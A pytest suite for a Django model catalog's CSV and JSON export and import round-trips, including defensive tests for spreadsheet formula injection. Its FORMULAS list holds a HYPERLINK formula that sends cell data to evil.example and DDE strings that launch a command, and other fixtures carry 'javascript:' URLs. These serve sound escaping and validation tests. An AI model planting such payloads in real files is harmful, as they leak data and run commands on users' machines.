"""What the site exports, read back: it changes nothing, and what a person changed in a file is what changes."""

import csv
import io
import json
from collections.abc import Callable
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command

from catalog import imports, snapshot
from catalog.claims import pins
from catalog.models import Change, Claim, Model, Price, Version
from catalog.programs import export
from catalog.sources import own_csv, own_json
from catalog.sources.fetching import Unreadable
from catalog.sources.rows import Refusal

DAY = "2026-11-23"
Keep = Callable[[bytes], str]


@pytest.fixture
def keep(tmp_path: Path) -> Keep:
    """Puts bytes into a file and gives its path."""

    def kept(held: bytes) -> str:
        path = tmp_path / "export"
        path.write_bytes(held)
        return str(path)

    return kept


def planned(reader: str, place: str) -> imports.Plan:
    module: Any = {"csv": own_csv, "json": own_json}[reader]
    raw = module.fetch(place)
    names = module.providers(raw) if reader == "json" else {}
    return imports.plan(reader, *module.translate(raw, DAY), providers=names)


def whole(keep: Keep) -> str:
    text = io.StringIO()
    call_command("export_catalog", stdout=text)
    return keep(text.getvalue().encode())


def edited(held: bytes, change: Callable[[list[dict[str, str]]], None], **form: Any) -> bytes:
    """A CSV as a spreadsheet gives it back."""
    lines = list(csv.DictReader(io.StringIO(held.decode(), newline="")))
    change(lines)
    text = io.StringIO()
    made = csv.DictWriter(text, lines[0].keys(), **form)
    made.writeheader()
    made.writerows(lines)
    return text.getvalue().encode("utf-8-sig")


@pytest.mark.parametrize("path", ["/models.json", "/api/v1/models", "/models/acme/talk-large.json"])
def test_json_of_the_site_read_back_changes_nothing(client, catalog, keep, path):
    found = planned("json", keep(client.get(path).content))
    assert (found.created, found.changed, found.writes, found.refused) == ({}, {}, {}, [])


def test_csv_of_the_site_read_back_changes_nothing(client, catalog, keep):
    found = planned("csv", keep(client.get("/models.csv").content))
    assert (found.created, found.changed, found.writes, found.refused) == ({}, {}, {}, [])


def test_the_whole_catalog_read_back_changes_nothing(catalog, keep):
    pins.edit(Model.objects.get(slug="acme/talk-large"), {"context_window": 7}, {("input_tokens", ""): None}, by="ed")
    Model.objects.filter(slug="orbit/embed").update(listed=False)
    found = planned("json", whole(keep))
    assert (found.created, found.changed, found.writes, found.refused) == ({}, {}, {}, [])


def test_the_whole_catalog_comes_back_into_empty_tables(catalog, keep):
    Model.objects.filter(slug="orbit/embed").update(listed=False)
    place, before = whole(keep), everything()
    Model.objects.all().delete()
    imports.apply(planned("json", place))
    assert everything() == before


def everything() -> tuple[Any, ...]:
    facts = Model.objects.values_list("slug", "provider__name", "listed", "name", "modality", "capabilities", "context_window")
    claims = Claim.objects.values_list("model__slug", "field", "source", "as_of", "url")
    values = {(one.model.slug, one.field, one.source): (one.value, one.doubt) for one in Claim.objects.select_related("model")}
    prices = Price.objects.current().values_list("model__slug", "meter", "condition", "amount", "source")
    return list(facts), set(claims), values, set(prices)


FORMS = [{}, {"delimiter": ";"}, {"delimiter": "\t"}, {"lineterminator": "\n"}, {"quoting": csv.QUOTE_ALL}]


@pytest.mark.parametrize("form", FORMS)
def test_a_spreadsheet_s_csv_changes_what_was_edited_there(client, catalog, keep, form):
    def change(lines: list[dict[str, str]]) -> None:
        line = next(line for line in lines if line["id"] == "acme/talk-large")
        line["price.input_tokens"] = "1,75" if form.get("delimiter") == ";" else "1.75"
        line["context_window"] = "300000"

    found = planned("csv", keep(edited(client.get("/models.csv").content, change, **form)))
    assert found.changed.keys() == {"acme/talk-large"} and not found.created and not found.refused
    assert found.changed["acme/talk-large"]["price.input_tokens"][1] == Decimal("1.75")
    assert found.changed["acme/talk-large"]["context_window"][1] == 300000


def test_a_blank_cell_is_unknown_and_zero_is_free(client, catalog, keep):
    def change(lines: list[dict[str, str]]) -> None:
        for line in lines:
            line |= {"price.input_tokens": "", "context_window": "", "price.output_tokens": ""}
            if line["id"] == "acme/talk-large":
                line["price.output_tokens"] = "0"

    found = planned("csv", keep(edited(client.get("/models.csv").content, change)))
    assert found.changed == {"acme/talk-large": {"price.output_tokens": (Decimal(10), Decimal(0))}}


def test_an_edited_line_is_a_pin_that_a_later_import_leaves(client, catalog, keep):
    def change(lines: list[dict[str, str]]) -> None:
        next(line for line in lines if line["id"] == "acme/talk-large")["name"] = "Renamed"

    imports.apply(planned("csv", keep(edited(client.get("/models.csv").content, change))), by="ed")
    assert Model.objects.get(slug="acme/talk-large").name == "Renamed"
    assert [one.source for one in Claim.objects.filter(source="pin")] == ["pin"]
    assert Change.objects.get(field="name").by == "ed"


def test_refusals_name_the_line():
    head = "id,price.input_tokens,context_window,released,colour\n"
    text = head + 'acme/one,-1,many,2026-13-01,red\n\n"no slug",1,,,\nacme/two,1,,,,extra\n'
    rows, refusals = own_csv.translate(text, DAY)
    assert [(row.slug, row.claim["facts"], row.claim.get("prices")) for row in rows] == [("acme/one", {}, None)]
    assert [(one.slug, one.field, one.reason.partition(":")[0]) for one in refusals] == [
        ("acme/one", "context_window", "line 2"), ("acme/one", "released", "line 2"), ("acme/one", "input_tokens", "line 2"),
        ("no slug", "model", "line 4"), ("acme/two", "model", "line 5"), ("", "colour", "not understood, in 1 rows"),
    ]  # fmt: skip


def test_takes_the_quote_off_what_is_no_formula():
    rows, _ = own_csv.translate("id,name,family\nacme/one,'=SUM(A1),'tis\n", DAY)
    assert rows[0].claim["facts"] == {"name": "=SUM(A1)", "family": "'tis"}


FORMULAS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "'=1", "''=1", '"=1', "' =1", "＝1", "＋1", "－1", "＠x",
    "a;=1", "a;'=1", "=a;=b;-c", "a; b", "it's", "'tis", "a=b", "a,=b",
    '=HYPERLINK("https://evil.example/?q="&A1)', "=cmd|'/C calc'!A0", "-2+3+cmd|' /C calc'!A0",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_leaves_as_text_and_comes_back_as_it_was(text):
    written = export.cell(text)
    for cell in (written, *written.split(";")):  # a spreadsheet may part cells by semicolons
        assert not cell.lstrip("\"").startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
    assert own_csv.plain(written, ",") == text


def test_numbers_stay_numbers():
    assert [export.cell(number) for number in (-5, 0, Decimal("-0.5"), 1e-7)] == ["-5", "0", "-0.5", "1e-07"]


def test_a_catalog_full_of_formulas_read_back_changes_nothing(client, catalog, keep):
    for model, text in zip(Model.objects.order_by("pk"), FORMULAS[:5], strict=False):
        Model.objects.filter(pk=model.pk).update(name=text, family=text)
    Version.bump()
    snapshot.refresh()
    rows, _ = own_csv.translate(client.get("/models.csv").content.decode(), DAY)
    kept = {model.slug: (model.name, model.family) for model in Model.objects.all()}
    assert {row.slug: (row.claim["facts"]["name"], row.claim["facts"].get("family", "")) for row in rows} == kept


@pytest.mark.parametrize("text", ["", "\n\n", "name,price\na,1\n", '"open'])
def test_refuses_what_is_no_export(text):
    with pytest.raises(Unreadable):
        own_csv.translate(text, DAY)


def test_reads_conditions_of_prices():
    rows, _ = own_csv.translate("id,conditional_prices\na/b,price.input_tokens@batch=0.5 price.images@2k=0.1\n", DAY)
    assert [(one["meter"], one["condition"], one["amount"]) for one in rows[0].claim["prices"]] == [
        ("input_tokens", "batch", "0.5"), ("images", "2k", "0.1"),
    ]  # fmt: skip


@pytest.mark.parametrize("text", ['id,name\na/b,"x\nc/d,y\n', "id,id,name\na/b,c/d,x\n"])
def test_refuses_a_csv_that_would_lose_lines_or_cells(text):
    with pytest.raises(Unreadable):
        own_csv.translate(text, DAY)


def test_a_json_of_several_sources_counts_models(catalog, keep, capsys):
    call_command("import_catalog", "json", place=whole(keep))
    assert f"json: {Model.objects.count():,} models stated" in capsys.readouterr().out


def test_a_bad_model_of_a_json_file_is_refused_alone():
    bad = [{"id": "a/b", "claims": 7}, {"id": None}, "x", {"id": "a/c", "claims": [{"field": "name"}]}, {"pricing": []}]
    rows, refusals = own_json.translate(json.loads(json.dumps({"data": [*bad, {"id": "a/good", "name": "Good"}]})), DAY)
    assert [row.slug for row in rows] == ["a/good"]
    assert [one.slug for one in refusals if one.field == "model"] == ["a/b", "None", "row 3", "a/c", "row 5"]
    assert Refusal("a/c", "model", "without 'source'") in refusals


def test_a_claim_keeps_its_source_and_day():
    claim = {"field": "price.input_tokens@batch", "value": "0.5", "source": "litellm", "as_of": "2026-01-02"}
    rows, _ = own_json.translate({"data": [{"id": "a/b", "claims": [claim]}]}, DAY)
    assert (rows[0].claim["source"], date.fromisoformat(rows[0].claim["as_of"])) == ("litellm", date(2026, 1, 2))
    assert rows[0].claim["prices"] == [{"meter": "input_tokens", "condition": "batch", "amount": "0.5"}]


PAGES = [
    {"id": {}, "name": "x"}, {"id": "acme2", "name": ["x"]}, {"id": "acme2", "name": "x" * 9999}, {"id": "acme2", "name": "A\0"},
    {"id": "acme2", "name": "Acme", "url": "javascript:x"}, {"id": "acme2", "name": "Acme", "url": 5},
]  # fmt: skip


@pytest.mark.parametrize("page", PAGES)
def test_a_provider_that_no_table_holds_costs_no_model(catalog, keep, page):
    held = {"data": [{"id": "acme2/new", "modality": "chat", "provider": page}]}
    call_command("import_catalog", "json", place=keep(json.dumps(held).encode()), verbosity=0)
    provider = Model.objects.get(slug="acme2/new").provider
    assert (provider.name, provider.url) in {("acme2", ""), ("Acme", "")}


def test_takes_no_address_or_doubt_that_no_table_holds():
    claim = {"field": "name", "value": "A", "source": "litellm", "as_of": "2026-01-02"}
    for bad in ({"url": "https://x/" + "y" * 500}, {"url": "javascript:1"}, {"url": 7}, {"doubt": "a\0b"}):
        rows, _ = own_json.translate({"data": [{"id": "a/b", "claims": [claim | bad]}]}, DAY)
        assert (rows[0].claim["url"], rows[0].claim["doubts"], rows[0].claim["facts"]) == (None, {}, {"name": "A"})
